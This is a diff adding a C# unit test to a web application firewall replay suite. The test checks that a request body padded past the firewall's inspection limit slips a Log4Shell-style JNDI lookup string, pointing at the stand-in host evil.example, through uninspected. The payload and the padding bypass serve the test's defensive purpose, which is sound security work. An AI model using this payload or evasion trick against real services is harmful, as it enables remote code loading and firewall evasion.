@@ -61,6 +61,17 @@ public sealed class WafReplayTests
     }
 
     [Test]
+    public async Task What_large_bodies_cost_is_that_nobody_looks_at_their_end()
+    {
+        var acl = await RegisterAsync();
+        var body = $"{new string('a', WebRequest.InspectedBody)}&state=${{jndi:ldap://evil.example/a}}";
+
+        var verdict = acl.Judge(new WebRequest("late attack", "POST", "/v1/anything") { Body = body });
+
+        Assert.That(verdict.ToString(), Is.EqualTo("passes, counted: SizeRestrictions_BODY"), "only the metric tells");
+    }
+
+    [Test]
     public async Task Words_that_only_resemble_the_inner_workings_pass()
     {
         var acl = await RegisterAsync();
